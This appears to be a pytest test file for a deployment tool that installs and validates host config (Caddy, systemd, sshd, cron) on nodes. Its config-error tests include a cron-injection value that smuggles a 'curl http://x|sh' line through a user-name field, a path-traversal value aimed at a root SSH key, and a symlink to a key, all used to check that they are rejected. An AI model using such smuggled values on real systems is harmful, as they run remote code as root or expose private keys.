"""Host config on a real-systemd node through the real engine (issues 18 and 25): files from a
committed ref, each checked by its own tool before it is live, installed once, reloaded only on
change, put back when a reload fails or a hand edit is found, config errors caught at preview."""

from __future__ import annotations

import re
import stat
import time

import pytest

from tests.support import AppRepo, run_preview, run_up, wait_for

DEPLOY = "server/deploy"
INSTALLED = {  # source in the server repo -> (path on the node, mode)
    "Caddyfile": ("/etc/caddy/Caddyfile", 0o644),
    "makenotwork.service": ("/etc/systemd/system/makenotwork.service", 0o644),
    "sshd-git.conf": ("/etc/ssh/sshd_config.d/makenotwork-git.conf", 0o644),  # as its header says
    "fail2ban-sshd.conf": ("/etc/fail2ban/jail.d/makenotwork-sshd.conf", 0o644),
    "setup-firewall.sh": ("/usr/local/sbin/setup-firewall.sh", 0o755),
    "backup-db.sh": ("/usr/local/sbin/backup-db.sh", 0o755),
}


@pytest.fixture
def node_app(tmp_path):
    """Own copy: these tests commit host-config changes to it."""
    return AppRepo(tmp_path / "nodeapp" / "makenotwork")


def commit(repo: AppRepo, rel: str, text: str, msg: str = "host config") -> str:
    (repo.path / rel).write_text(text)
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", msg)
    return repo.commit("HEAD")


def caddy_serves(node) -> bool:
    status, body = node.fetch(node.caddyUrl + "__mnw_error_test")
    return status == 503 and "mnw-error-page" in body


def host_events(node) -> list[tuple[str, str]]:
    """What systemd did to the units host config touches (not the app's own switch restarts)."""
    return [e for e in node.unit_events() if e[1] in ("caddy", "ssh", "-") or e[0] == "daemon-reload"]


def test_host_config_from_the_ref_installed_once_and_applied_only_on_change(make_nodes, make_deploy, node_app):
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app, bootstrap={"ref": "main", "backupSchedule": "5 4 * * *"})

    # 1. every item installed byte for byte as committed, with its mode; applied once each
    run_up(d)
    for src, (dest, mode) in INSTALLED.items():
        installed = node.path(dest)
        assert installed.read_bytes() == (node_app.path / DEPLOY / src).read_bytes(), dest
        assert stat.S_IMODE(installed.stat().st_mode) == mode, dest
    cron = node.path("/etc/cron.d/makenotwork-backup").read_text()
    assert "5 4 * * * root /usr/local/sbin/backup-db.sh" in cron
    assert (node.release_root / "releases").is_dir()
    events = node.unit_events()
    assert events.count(("reload", "caddy")) == 1 and events.count(("daemon-reload", "-")) == 1
    assert events.count(("reload", "ssh")) == 1  # the sshd drop-in: `sshd -t`, then reload (never restart)
    assert ("restart", "ssh") not in events
    assert "fail2ban is not installed (apt-get install fail2ban)" in "\n".join(d.log)  # the jail: a warning
    out = d.outputs()
    assert out["hostConfig"] == {"ref": "main", "commit": node_app.commit("main")}
    assert node.exec("systemd-analyze", "verify", "/etc/systemd/system/makenotwork.service").returncode == 0

    # 2. nothing changed: 0 resources changed, no unit touched
    res, changed = run_up(d)
    assert changed == {} and set(res.summary.resource_changes) == {"same"}
    assert node.unit_events() == events

    # 3. an uncommitted edit never ships
    caddyfile = node_app.path / DEPLOY / "Caddyfile"
    caddyfile.write_text(caddyfile.read_text() + "\n# uncommitted\n")
    _, planned = run_preview(d)
    assert planned == {}
    node_app.git("checkout", "--", f"{DEPLOY}/Caddyfile")

    # 4. a committed Caddyfile change: the preview names the file; up reloads caddy once, nothing else
    new = commit(node_app, f"{DEPLOY}/Caddyfile", caddyfile.read_text() + "\n# tuned by the operator\n")
    _, planned = run_preview(d)
    assert planned == {"node1-host": "update"}
    assert "node1-host update [diff: ~caddyfile,commit]" in "\n".join(d.log)  # the file, by name
    assert f"server/deploy/Caddyfile -> /etc/caddy/Caddyfile changed at sando:bootstrap.ref main ({new[:12]})" \
        in "\n".join(d.log)
    _, changed = run_up(d)
    assert changed == planned
    assert node.path("/etc/caddy/Caddyfile").read_text() == caddyfile.read_text()
    assert node.unit_events() == events + [("reload", "caddy")]
    assert d.outputs()["hostConfig"]["commit"] == new
    assert caddy_serves(node), node.fetch(node.caddyUrl + "__mnw_error_test")  # the live release's error pages
    # cron reads /etc/cron.d at start and logs what it refuses, before its "@reboot jobs" line (Running
    # or Skipping): that line of this start says it read ours (systemctl returns before it has)
    cursor = node.journal_cursor()
    node.exec("systemctl", "restart", "cron", check=True)
    read = wait_for(lambda: (lambda j: "@reboot jobs" in j and j)(node.journal("cron", after=cursor)), timeout=30)
    assert "makenotwork-backup" not in read, read  # it names a file only to complain about it

    # 5. re-adopting the node after `pulumi destroy` reloads nothing: every file is identical (18.7)
    before = node.unit_events()
    d.stack.destroy(color="never")
    run_up(d)
    assert [e for e in node.unit_events()[len(before):] if e[1] != "makenotwork"] == []


def test_pinning_an_older_version_never_rolls_host_config_back(make_nodes, make_deploy, tmp_path):
    repo = AppRepo(tmp_path / "app")
    caddyfile = repo.path / DEPLOY / "Caddyfile"
    caddyfile.write_text(caddyfile.read_text() + "\n# v2's Caddyfile\n")
    repo.version("v2")
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=repo, version="v2")
    run_up(d)
    d.set(version="v1")  # v1's commit has the old Caddyfile; bootstrap.ref (main) has v2's
    _, changed = run_up(d)
    assert "node1-host" not in changed
    assert "# v2's Caddyfile" in node.path("/etc/caddy/Caddyfile").read_text()
    assert node.served()["version"] == "v1"


def test_a_broken_caddyfile_never_becomes_live(make_nodes, make_deploy, node_app):
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app, healthCheck={"timeoutSeconds": 10, "intervalSeconds": 0.2,
                                                        "expectVersion": True, "caddyUrl": node.caddyUrl})
    run_up(d)
    good = node.path("/etc/caddy/Caddyfile").read_text()
    caddyfile = node_app.path / DEPLOY / "Caddyfile"
    lines = caddyfile.read_text().rstrip("\n").splitlines()
    assert lines[-1] == "}"  # the site block's end: the bad directive goes inside it
    commit(node_app, f"{DEPLOY}/Caddyfile", "\n".join(lines[:-1] + ["\tthis_is_not_a_directive {", "\t}", "}"]) + "\n")
    where = f"server/deploy/Caddyfile:{len(lines)}"

    # the preview fails already, quoting caddy with the file (as in the repo) and line; nothing changed
    log = []
    with pytest.raises(Exception) as err:
        d.stack.preview(color="never", on_output=log.append)
    (msg,) = d.errors("\n".join(log) + "\n" + str(err.value))
    assert msg.startswith("node1: server/deploy/Caddyfile -> /etc/caddy/Caddyfile at sando:bootstrap.ref main")
    assert "fails caddy validate" in msg and where in msg and "this_is_not_a_directive" in msg, msg
    # so does the up, and the live file, caddy and the site are as they were
    events = node.unit_events()
    out = d.up_fails()
    assert where in out and "the live file is unchanged" in out
    assert node.path("/etc/caddy/Caddyfile").read_text() == good
    assert node.exec("systemctl", "is-active", "caddy").stdout.strip() == "active"
    assert caddy_serves(node)
    assert ("reload", "caddy") not in node.unit_events()[len(events):]

    # fixed in the repo: the next up installs it
    commit(node_app, f"{DEPLOY}/Caddyfile", "\n".join(lines + ["# fixed"]) + "\n")
    run_up(d)
    assert node.path("/etc/caddy/Caddyfile").read_text().endswith("# fixed\n")
    assert node.unit_events()[len(events):] == [("reload", "caddy")]


def test_caddy_stopped_or_disabled_by_hand_is_started_by_up(make_nodes, make_deploy, node_app):
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app, healthCheck={"timeoutSeconds": 10, "intervalSeconds": 0.2,
                                                        "expectVersion": True, "caddyUrl": node.caddyUrl})
    run_up(d)
    node.exec("systemctl", "disable", "--now", "caddy", check=True)
    _, planned = run_preview(d)
    assert planned == {"node1-host": "update"} and "node1: caddy is inactive; `pulumi up` starts and enables it" \
        in "\n".join(d.log)
    _, changed = run_up(d)
    assert changed == planned
    assert node.exec("systemctl", "is-active", "caddy").stdout.strip() == "active"
    assert node.exec("systemctl", "is-enabled", "caddy").stdout.strip() == "enabled"
    assert caddy_serves(node)
    assert "started caddy (it was inactive)" in "\n".join(d.log)
    assert d.node_out(node)["hostConfig"]["actions"][:2] == ["enabled caddy", "started caddy (it was inactive)"]


def test_a_hand_edit_shows_in_a_plain_preview_and_up_puts_it_back(make_nodes, make_deploy, node_app):
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app)
    run_up(d)
    committed = node.path("/etc/caddy/Caddyfile").read_text()
    with open(node.path("/etc/caddy/Caddyfile"), "a") as fh:
        fh.write("# hotfix by hand\n")
    node.path("/usr/local/sbin/backup-db.sh").chmod(0o777)
    _, planned = run_preview(d)  # no --refresh
    assert planned == {"node1-host": "update"}
    assert ("node1: /etc/caddy/Caddyfile, /usr/local/sbin/backup-db.sh changed on the node (not as committed at "
            "sando:bootstrap.ref main); `pulumi up` puts the committed copies back") in "\n".join(d.log)
    events = node.unit_events()
    run_up(d)
    assert node.path("/etc/caddy/Caddyfile").read_text() == committed
    assert stat.S_IMODE(node.path("/usr/local/sbin/backup-db.sh").stat().st_mode) == 0o755
    assert node.unit_events()[len(events):] == [("reload", "caddy")]
    _, planned = run_preview(d)
    assert planned == {}


def deployed_then_a_unit_change(make_nodes, make_deploy, node_app):
    """One node deployed, then a unit change committed (MNW_FEATURE=on): (node, deploy, the unit's path)."""
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app)
    run_up(d)
    unit = node_app.path / DEPLOY / "makenotwork.service"
    commit(node_app, f"{DEPLOY}/makenotwork.service",
           unit.read_text().replace("[Service]\n", "[Service]\nEnvironment=MNW_FEATURE=on\n"))
    return node, d, unit


def test_a_unit_change_restarts_the_service_and_the_app_sees_it(make_nodes, make_deploy, node_app):
    node, d, unit = deployed_then_a_unit_change(make_nodes, make_deploy, node_app)
    events = node.unit_events()
    _, changed = run_up(d)
    assert changed == {"node1-host": "update"}
    assert node.unit_events()[len(events):] == [("daemon-reload", "-"), ("restart", "makenotwork")]
    pid = node.exec("systemctl", "show", "-p", "MainPID", "--value", "makenotwork").stdout.strip()
    assert "MNW_FEATURE=on" in node.exec("cat", f"/proc/{pid}/environ").stdout.split("\0")
    assert "restarted makenotwork: its unit file changed (server/deploy/makenotwork.service)" in "\n".join(d.log)
    assert node.served()["version"] == "v1"

    # a unit the service cannot run with: restarted, unhealthy, the previous unit back and healthy again
    commit(node_app, f"{DEPLOY}/makenotwork.service",
           unit.read_text().replace("[Service]\n", "[Service]\nExecStartPre=/bin/false\n"))
    out = d.up_fails()
    assert "node1: makenotwork failed after its unit changed (server/deploy/makenotwork.service" in out, out
    assert "the previous unit is back and makenotwork is healthy with it" in out
    assert "MNW_FEATURE=on" in node.path("/etc/systemd/system/makenotwork.service").read_text()
    assert node.served()["version"] == "v1"

    # a unit systemd would read differently than written: refused by systemd-analyze verify, never live
    events = node.unit_events()
    commit(node_app, f"{DEPLOY}/makenotwork.service", unit.read_text().replace("Type=simple", "Type=bogus"))
    out = d.up_fails()
    assert "fails systemd-analyze verify: server/deploy/makenotwork.service:" in out and "bogus" in out, out
    assert "Type=simple" in node.path("/etc/systemd/system/makenotwork.service").read_text()
    assert node.unit_events()[len(events):] == []


def test_a_broken_sshd_drop_in_is_put_back_and_sshd_keeps_serving(make_nodes, make_deploy, node_app):
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app)
    run_up(d)
    good = node.path("/etc/ssh/sshd_config.d/makenotwork-git.conf").read_text()
    commit(node_app, f"{DEPLOY}/sshd-git.conf", good + "NoSuchSshdOption yes\n")
    out = d.up_fails()
    assert "node1: server/deploy/sshd-git.conf -> /etc/ssh/sshd_config.d/makenotwork-git.conf" in out, out
    assert "fails sshd -t" in out and "NoSuchSshdOption" in out
    assert node.path("/etc/ssh/sshd_config.d/makenotwork-git.conf").read_text() == good
    commit(node_app, f"{DEPLOY}/sshd-git.conf", good)
    run_up(d)  # sando still gets in: sshd was never restarted or reloaded with the broken file


def test_copies_where_earlier_sando_versions_put_the_files_are_cleaned_up(make_nodes, make_deploy, node_app):
    """Issue 18.6: earlier versions installed the sshd drop-in and the jail under names their headers
    do not say; an identical copy there is removed, a different file is left with a warning."""
    (node,) = make_nodes(1)
    sshd = (node_app.path / DEPLOY / "sshd-git.conf").read_text()
    node.path("/etc/ssh/sshd_config.d/sshd-git.conf").write_text(sshd)
    node.path("/etc/fail2ban/jail.d").mkdir(parents=True, exist_ok=True)
    node.path("/etc/fail2ban/jail.d/sshd.conf").write_text("[sshd]\nenabled = false\n")  # the operator's own
    d = make_deploy([node], repo=node_app)
    run_up(d)
    assert node.path("/etc/ssh/sshd_config.d/makenotwork-git.conf").read_text() == sshd
    assert not node.path("/etc/ssh/sshd_config.d/sshd-git.conf").exists()
    assert node.path("/etc/fail2ban/jail.d/sshd.conf").read_text() == "[sshd]\nenabled = false\n"
    assert "/etc/fail2ban/jail.d/sshd.conf (where earlier sando versions installed fail2ban) differs" \
        in "\n".join(d.log)
    _, changed = run_up(d)
    assert changed == {}


def _nodes(node, **change):
    cfg = node.config()
    cfg.update(change)
    return [{k: v for k, v in cfg.items() if v is not None}]


@pytest.mark.parametrize("mutate,expected", [
    (lambda d, n: d.set(nodes=_nodes(n, host=None)), "sando:nodes[0].host: is required"),
    (lambda d, n: d.set(nodes=_nodes(n, hostKey="not-a-key AAAA")), "sando:nodes[0].hostKey: must be an OpenSSH"),
    (lambda d, n: d.set(nodes=_nodes(n, port=70000)), "sando:nodes[0].port: must be between 1 and 65535"),
    (lambda d, n: d.set(bogusKey="x"), "sando:bogusKey: unknown key"),
    (lambda d, n: d.set(nodes=_nodes(n, hots="x")), "sando:nodes[0].hots: unknown key"),
    (lambda d, n: d.set(nodes=_nodes(n, hostKey=None)), "sando:nodes[0].hostKey: is required"),
    (lambda d, n: d.set(binNames="makenotwork"), "sando:binNames: must be a list of binary names"),
    (lambda d, n: d.set(binNames=["a b"]), "sando:binNames: 'a b' is not a binary name"),
    (lambda d, n: d.set(keepReleases="many"), "sando:keepReleases: must be a whole number"),
    (lambda d, n: d.set(version="main"), "sando:version: 'main' is a branch of "),
    (lambda d, n: d.set(rollout={"batchSize": 0}), "sando:rollout.batchSize: must be 1 or more"),
    (lambda d, n: d.set(migrations={"dryRunCommand": "mnw-admin migrate --database {database}"}),
     "sando:migrations.dryRunCommand: must run against {scratch}"),
    # issue 25.1: a cron line injection through the backup user
    (lambda d, n: d.set(bootstrap={"ref": "main", "backupUser": "root\n* * * * * root curl http://x|sh\n#"}),
     "sando:bootstrap.backupUser: must be a user name"),
    (lambda d, n: d.set(bootstrap={"ref": "main", "backupSchedule": "17 3 * * * root x\n#"}),
     "sando:bootstrap.backupSchedule: must be a 5-field cron schedule"),
    # issue 25.2: a local file outside the repo
    (lambda d, n: d.set(bootstrap={"ref": "main", "caddyfile": "../../../root/.ssh/id_ed25519"}),
     "sando:bootstrap.caddyfile: must be a relative path inside the server repo"),
    (lambda d, n: d.set(bootstrap={"ref": "no-such-ref"}), "sando:bootstrap.ref: 'no-such-ref' is not a branch"),
    (lambda d, n: d.set(bootstrap={"backupUser": "root"}), "sando:bootstrap.ref: is required"),
])
def test_config_errors_fail_at_preview_naming_the_key(make_nodes, make_deploy, mutate, expected):
    (node,) = make_nodes(1)
    d = make_deploy([node])
    mutate(d, node)
    log = []
    with pytest.raises(Exception) as err:
        d.stack.preview(color="never", on_output=log.append)
    text = "\n".join(log) + "\n" + str(err.value)
    errors = d.errors(text)
    assert len(errors) == 1 and errors[0].startswith(expected), errors
    for jargon in ("Traceback", "Input should be", "valid tuple", "Extra data", "JSON"):
        assert jargon not in text
    d.up_fails()
    assert node.unit_events() == []  # nothing ran on the node
    assert not node.path("/etc/caddy/Caddyfile").read_text().startswith("# Caddy v2 config of makenotwork")
    assert not node.path("/etc/cron.d/makenotwork-backup").exists()
    assert not (node.release_root / "releases").exists()


def test_a_committed_symlink_to_a_private_key_fails_at_preview(make_nodes, make_deploy, node_app, tmp_path):
    (node,) = make_nodes(1)
    secret = tmp_path / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    caddyfile = node_app.path / DEPLOY / "Caddyfile"
    caddyfile.unlink()
    caddyfile.symlink_to(secret)
    node_app.git("add", "-A")
    node_app.git("commit", "-q", "-m", "symlink")
    d = make_deploy([node], repo=node_app)
    out = d.up_fails()
    (msg,) = d.errors(out)
    assert msg.startswith("sando:bootstrap.caddyfile: 'server/deploy/Caddyfile' is a symlink in the repo"), msg
    assert "PRIVATE KEY" not in out
    assert node.unit_events() == []


def test_promote_carries_the_host_config_commit_testnot_runs(make_nodes, make_deploy, node_app, sando):
    t_node, p_node = make_nodes(2)
    old = node_app.commit("main")
    testnot = make_deploy([t_node], repo=node_app, bootstrap={"ref": old})
    prod = make_deploy([p_node], repo=node_app, project=testnot.project, bootstrap={"ref": old})
    run_up(testnot)
    run_up(prod)
    caddyfile = node_app.path / DEPLOY / "Caddyfile"
    new = commit(node_app, f"{DEPLOY}/Caddyfile", caddyfile.read_text() + "# pushed through testnot\n")
    testnot.set(bootstrap={"ref": new})
    run_up(testnot)
    assert t_node.path("/etc/caddy/Caddyfile").read_text().endswith("# pushed through testnot\n")
    commit(node_app, f"{DEPLOY}/Caddyfile", caddyfile.read_text() + "# not yet on testnot\n")  # main moves on

    code, said = sando(testnot.project, "promote", "--from", testnot.name, "--to", prod.name, "--yes")
    assert code == 0, said
    assert prod.outputs()["hostConfig"]["commit"] == new
    assert prod.stack.get_config("sando:bootstrap.ref", path=True).value == new
    assert p_node.path("/etc/caddy/Caddyfile").read_text() == t_node.path("/etc/caddy/Caddyfile").read_text()


def test_host_config_follows_the_rollout_batches(make_nodes, make_deploy, node_app):
    node_app.version("v2")
    nodes = make_nodes(2)
    node1, node2 = nodes
    d = make_deploy(nodes, repo=node_app, rollout={"batchSize": 1})
    run_up(d)
    old = node2.path("/etc/caddy/Caddyfile").read_text()
    node1.unit_dropin("refuse-v2", "[Service]\nExecStartPre=/bin/sh -c "
                                   "'readlink /opt/makenotwork/current | grep -qvx releases/v2'")
    commit(node_app, f"{DEPLOY}/Caddyfile", old + "# with v2\n")
    d.set(version="v2")
    errors = d.errors(d.up_fails())
    assert errors[0].startswith("node1: v2 failed its health check") and "node2 not switched" in " ".join(errors), errors
    assert node1.path("/etc/caddy/Caddyfile").read_text().endswith("# with v2\n")  # batch 1 got it
    assert node2.path("/etc/caddy/Caddyfile").read_text() == old  # batch 2 held back, like its switch
    node1.unit_dropin("refuse-v2", "")
    run_up(d)
    assert node2.path("/etc/caddy/Caddyfile").read_text().endswith("# with v2\n")


def test_rotating_the_ssh_key_is_no_change_on_the_node(make_nodes, make_deploy, node_app, tmp_path):
    import subprocess

    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app)
    run_up(d)
    new_key = tmp_path / "rotated"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(new_key)], check=True)
    with open(node.path("/root/.ssh/authorized_keys"), "a") as fh:
        fh.write(new_key.with_suffix(".pub").read_text())
    d.set_secret("sshPrivateKey", new_key.read_text())
    _, planned = run_preview(d)
    # the preview says so, once: the node's resources only record the new credentials (for refresh and delete)
    said = "\n".join(d.log)
    assert planned == dict.fromkeys(["node1-reach", "node1-host", "node1-release-files", "node1-current-switch"],
                                    "update"), planned
    line = ("node1: only how sando connects changed (its SSH key); nothing on the node changes: its resources record "
            "the new credentials (for later refreshes and deletes)")
    assert said.split("Diagnostics:", 1)[1].count(line) == 1, said  # said once (the engine echoes it in progress)
    events = node.unit_events()
    _, changed = run_up(d)
    assert changed == planned
    assert node.unit_events() == events  # nothing reloaded or restarted
    # the old key removed from authorized_keys (README: key rotation): sando still gets in, also to refresh
    node.path("/root/.ssh/authorized_keys").write_text(new_key.with_suffix(".pub").read_text())
    _, changed = run_up(d, refresh=True)
    assert "node1-host" not in changed
    assert node.unit_events() == events


def test_a_unit_change_waits_for_a_switch_at_work_on_the_node(make_nodes, make_deploy, node_app):
    """The host step restarts the service after a unit change only with the node's switch lock, as a
    switch and `sando restart` do: a switch at work there (another operator's; here the lock held by
    hand for 4 s) ends before the restart begins. (Held longer than the wait: the next test.)"""
    import threading

    node, d, _ = deployed_then_a_unit_change(make_nodes, make_deploy, node_app)
    since = node.journal_cursor()
    held = threading.Thread(target=node.exec, args=(
        "flock", "/opt/makenotwork/.sando/switch.lock", "sh", "-c",
        "touch /run/sando-test-held; sleep 4; logger -t sando-test 'switch lock released'"))
    held.start()
    while node.exec("test", "-e", "/run/sando-test-held").returncode != 0:
        time.sleep(0.05)
    _, changed = run_up(d)
    held.join()
    assert changed == {"node1-host": "update"}
    said = node.journal(after=since, output="cat")
    assert said.index("switch lock released") < said.index("Stopping makenotwork"), said
    pid = node.exec("systemctl", "show", "-p", "MainPID", "--value", "makenotwork").stdout.strip()
    assert "MNW_FEATURE=on" in node.exec("cat", f"/proc/{pid}/environ").stdout.split("\0")


def test_a_unit_change_gives_up_on_a_switch_that_holds_the_node_past_its_wait(make_nodes, make_deploy, node_app):
    """A switch or restart that holds the node's switch lock longer than the unit restart waits
    (scripts.RESTART_LOCK_WAIT, 60 s): the run fails once, in one line naming the node and what
    to do; the previous unit is back and nothing restarted. Once the lock is free, the next run
    applies the unit."""
    import threading

    node, d, _ = deployed_then_a_unit_change(make_nodes, make_deploy, node_app)
    unit = node.path("/etc/systemd/system/makenotwork.service")
    before = unit.read_text()
    pid = node.exec("systemctl", "show", "-p", "MainPID", "--value", "makenotwork").stdout.strip()
    node.exec("touch", "/run/sando-test-hold")
    held = threading.Thread(target=node.exec, kwargs={"timeout": 300}, args=(
        "flock", "/opt/makenotwork/.sando/switch.lock", "sh", "-c",
        "touch /run/sando-test-held; while [ -e /run/sando-test-hold ]; do sleep 0.2; done"))
    held.start()
    try:
        while node.exec("test", "-e", "/run/sando-test-held").returncode != 0:
            time.sleep(0.05)
        since = node.journal_cursor()
        out = d.up_fails()
    finally:
        node.exec("rm", "-f", "/run/sando-test-hold")
        held.join()
    said = ("but a switch or restart still ran there after 60 s; the previous unit is back, nothing restarted: "
            "run pulumi up again once it is done")
    assert d.errors(out) == [
        "node1: makenotwork's unit changed (server/deploy/makenotwork.service -> /etc/systemd/system/makenotwork.service "
        f"at sando:bootstrap.ref main ({node_app.git('rev-parse', 'HEAD')[:12]})), {said}"], out
    assert unit.read_text() == before
    assert node.exec("systemctl", "show", "-p", "MainPID", "--value", "makenotwork").stdout.strip() == pid
    assert "Stopping makenotwork" not in node.journal(after=since, output="cat")
    since = node.journal_cursor()
    _, changed = run_up(d)
    # the pointer records the host step's outcome again (no switch: the version did not change)
    assert changed == {"node1-host": "update", "node1-current-switch": "update"}
    assert node.journal(after=since, output="cat").count("Stopping makenotwork") == 1  # the unit's one restart
    pid = node.exec("systemctl", "show", "-p", "MainPID", "--value", "makenotwork").stdout.strip()
    assert "MNW_FEATURE=on" in node.exec("cat", f"/proc/{pid}/environ").stdout.split("\0")


def test_a_unit_change_on_prod_warns_users_before_its_restart(make_nodes, make_deploy, node_app):
    import os

    token = "tok-" + os.urandom(8).hex()
    (node,) = make_nodes(1, token=token)
    d = make_deploy([node], repo=node_app, restartWarningSeconds=1)
    d.set_secret("cliServiceToken", token)
    run_up(d)
    unit = node_app.path / DEPLOY / "makenotwork.service"
    commit(node_app, f"{DEPLOY}/makenotwork.service", unit.read_text().replace("RestartSec=2", "RestartSec=3"))
    warned = node.journal("makenotwork").count("restart-warning: received")
    run_up(d)
    said = node.journal("makenotwork")
    assert said.count("restart-warning: received") == warned + 1, d.node_out(node)["hostConfig"]["actions"]
    assert said.rindex("restart-warning: received") < said.rindex("Stopping makenotwork")
    assert re.fullmatch(r"restart warning sent at \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ, 1s before the restart",
                        d.node_out(node)["hostConfig"]["actions"][2]), d.node_out(node)["hostConfig"]["actions"]
    assert node.exec("systemctl", "show", "-p", "RestartUSec", "makenotwork").stdout.strip() == "RestartUSec=3s"
    assert token not in "\n".join(d.log)


def test_a_switch_is_healthy_only_when_the_site_answers_through_caddy(make_nodes, make_deploy, node_app, sando):
    """Issue 18.2: with sando:healthCheck.caddyUrl, a switch checks the site as users reach it. v2
    listens only on the node's own address (as a changed listen default does): its own URL answers,
    but Caddy, which proxies to 127.0.0.1:3000, answers 502, so users would get errors. The switch
    goes back to v1 like any unhealthy switch and the error says the check through Caddy failed."""
    import json

    node_app.version("v2")
    (node,) = make_nodes(1)
    addr = node.appUrl.split("//", 1)[1].rsplit(":", 1)[0]
    d = make_deploy([node], repo=node_app, healthCheck={"timeoutSeconds": 5, "intervalSeconds": 0.2,
                                                        "expectVersion": True, "caddyUrl": node.caddyUrl})
    d.set(nodes=[{**node.config(), "appUrl": node.appUrl.rstrip("/")}])  # the app's URL: the node's address
    run_up(d)
    assert node.fetch(node.caddyUrl)[0] == 200
    node.unit_dropin("v2-listen", "[Service]\nExecStart=\nExecStart=/bin/sh -c 'readlink /opt/makenotwork/current | "
                                  f"grep -qx releases/v2 && export MNW_BIND={addr}:3000; "
                                  "exec /opt/makenotwork/current/makenotwork'")
    d.set(version="v2")
    out = d.up_fails()
    (msg,) = d.errors(out)
    assert msg == f"node1: v2 failed its health check (through Caddy {node.caddyUrl}: HTTP 502); v1 is live again", msg
    assert node.served()["version"] == "v1"
    status, body = node.fetch(node.caddyUrl)
    assert status == 200 and json.loads(body)["version"] == "v1"  # users get v1 again, through Caddy

    # Caddy stopped by hand: `sando status` says so (its state and the site through it), not only the app
    node.exec("systemctl", "stop", "caddy", check=True)
    code, said = sando(d.project, "status", d.name, "--json")
    (row,) = json.JSONDecoder().raw_decode(said)[0]["stacks"][0]["nodes"]  # the JSON, then any problem lines
    assert row["caddy"] == "inactive" and not row["caddyHealth"]["ok"] and row["health"]["ok"], row


def test_a_caddyfile_that_validates_but_fails_live_is_put_back(make_nodes, make_deploy, node_app):
    """Issue 18.1, the two failures `caddy validate` cannot see: a site on a port another service
    holds (the reload fails) and an upstream typo (Caddy reloads, the site answers 502 through it).
    Each time the previous Caddyfile is back, Caddy runs it, the site answers, and the error says so."""
    (node,) = make_nodes(1)
    d = make_deploy([node], repo=node_app, healthCheck={"timeoutSeconds": 5, "intervalSeconds": 0.2,
                                                        "expectVersion": True, "caddyUrl": node.caddyUrl})
    run_up(d)
    good = node.path("/etc/caddy/Caddyfile").read_text()
    src = f"{DEPLOY}/Caddyfile"

    # a second site on the app's own port: valid, but Caddy cannot listen there
    commit(node_app, src, good + "\nhttp://:3000 {\n\trespond \"maintenance\" 503\n}\n")
    out = d.up_fails()
    (msg,) = d.errors(out)
    assert msg.startswith("node1: server/deploy/Caddyfile -> /etc/caddy/Caddyfile at sando:bootstrap.ref main"), msg
    # caddy's own words (its journal) follow: "address already in use" (when this machine's load lets
    # its reload command start at all)
    assert "was not taken: caddy:" in msg, msg
    assert msg.endswith("the previous /etc/caddy/Caddyfile is back and caddy runs it"), msg
    assert node.path("/etc/caddy/Caddyfile").read_text() == good
    assert node.fetch(node.caddyUrl)[0] == 200 and caddy_serves(node)

    # an upstream typo: Caddy takes it, but the site through it answers 502: put back
    commit(node_app, src, good.replace("{$MNW_UPSTREAM:127.0.0.1:3000}", "{$MNW_UPSTREAM:127.0.0.1:3001}"))
    out = d.up_fails()
    (msg,) = d.errors(out)
    assert msg == (f"node1: server/deploy/Caddyfile -> /etc/caddy/Caddyfile at sando:bootstrap.ref main "
                   f"({node_app.commit('main')[:12]}) was not taken: the site through Caddy ({node.caddyUrl}) is not "
                   "healthy with the new Caddyfile; the previous /etc/caddy/Caddyfile is back"), msg
    assert node.path("/etc/caddy/Caddyfile").read_text() == good
    assert node.fetch(node.caddyUrl)[0] == 200
